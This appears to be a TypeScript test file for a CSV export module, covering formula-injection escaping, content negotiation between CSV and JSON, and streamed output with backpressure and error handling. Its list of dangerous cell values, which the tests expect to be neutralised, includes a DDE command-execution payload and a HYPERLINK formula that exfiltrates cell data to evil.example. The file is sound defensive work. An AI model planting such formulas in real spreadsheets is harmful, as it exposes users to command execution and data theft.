import { setImmediate } from 'node:timers/promises'
import t from 'tap'
import { prefersCsv } from '../../../src/engine/message/accept.ts'
import { csvCell, csvStream } from '../../../src/engine/formats/csv.ts'
import type { StreamSink } from '../../../src/engine/message/reply.ts'

t.test('no text begins as a formula does, whatever spreadsheet opens it, and every text comes back', async t => {
  const dangerous = [
    '=1+1',
    '+SUM(A1)',
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1)',
    '\t=1',
    '\r=1',
    '\n=1',
    ' =1',
    '\u00a0=1',
    '\ufeff=1',
    '＝1',
    '＋1',
    '－1',
    '＠a',
    '=HYPERLINK("http://evil.example/?"&A1,"x")'
  ]
  for (const text of dangerous) t.equal(csvCell(text), `"'${text.replaceAll('"', '""')}"`, JSON.stringify(text))
  t.equal(csvCell('-12.50'), '-12.50', 'a negative number stays one')
  t.equal(csvCell(-12), '-12')
  t.equal(csvCell(9_007_199_254_740_993n), '9007199254740993')
  t.equal(csvCell(null), '')
  t.equal(csvCell('plain'), 'plain')
  t.equal(csvCell('a,b'), '"a,b"')
  t.equal(csvCell('a;b'), '"a;b"', 'a semicolon separates cells')
  t.equal(csvCell('a "b"'), '"a ""b"""')
  t.equal(csvCell('a\nb'), '"a\nb"')
  t.equal(csvCell('<script>'), '<script>')
})

t.test('CSV is sent to clients that name it, and JSON to all others', async t => {
  const rows: Array<[string | undefined, boolean]> = [
    [undefined, false],
    ['*/*', false],
    ['text/*', false],
    ['application/json', false],
    ['text/csv', true],
    ['TEXT/CSV; charset=utf-8', true],
    ['text/csv;q=0', false],
    ['application/json, text/csv', true],
    ['application/json, text/csv;q=0.5', false],
    ['text/html, text/csv;q=0.9, */*;q=0.1', true]
  ]
  for (const [accept, expected] of rows) t.equal(prefersCsv(accept), expected, String(accept))
})

/** A sink that takes so many pieces before it asks to wait. */
function sinkOf(room: number) {
  const pieces: string[] = []
  const sink: StreamSink & { ended: boolean; failed: Error | null } = {
    onDrain: null,
    onStopping: null,
    ended: false,
    failed: null,
    write: piece => {
      pieces.push(String(piece))
      return pieces.length < room
    },
    end: () => {
      sink.ended = true
    },
    fail: error => {
      sink.failed = error
    }
  }
  return { sink, pieces }
}

t.test('a page is read only once the client has taken the one before', async t => {
  const requests: number[] = []
  const stream = csvStream({ n: (n: number) => n }, async function* () {
    for (let page = 0; page < 4; page++) {
      requests.push(page)
      yield [page]
    }
  })
  const { sink, pieces } = sinkOf(2)
  stream.open(sink)
  await setImmediate()
  t.same(requests, [0, 1])
  sink.onDrain?.()
  await setImmediate()
  t.same(requests, [0, 1, 2])
  sink.onDrain?.()
  await setImmediate()
  sink.onDrain?.()
  await setImmediate()
  t.same(pieces, ['n\r\n0\r\n', '1\r\n', '2\r\n', '3\r\n'])
  t.ok(sink.ended)
})

t.test('a client that leaves ends the reading, and an empty list has its first line', async t => {
  let isEnded = false
  const stream = csvStream({ n: (n: number) => n }, async function* () {
    try {
      for (;;) yield [1]
    } finally {
      isEnded = true
    }
  })
  const { sink } = sinkOf(1)
  const stop = stream.open(sink)
  await setImmediate()
  stop()
  await setImmediate()
  t.ok(isEnded)
  t.notOk(sink.ended, 'the client has left, so nothing is written')

  const empty = sinkOf(9)
  csvStream({ a: () => 1, b: () => 2 }, async function* () {}).open(empty.sink)
  await setImmediate()
  t.same(empty.pieces, ['a,b\r\n'])
})

t.test('a fault at any page breaks the list off, so that no part is taken for the whole', async t => {
  const { sink, pieces } = sinkOf(9)
  csvStream({ n: (n: number) => n }, async function* () {
    yield [1]
    throw new Error('away')
  }).open(sink)
  await setImmediate()
  t.same(pieces, ['n\r\n1\r\n'])
  t.match(sink.failed, { message: 'away' })
  t.notOk(sink.ended)
})
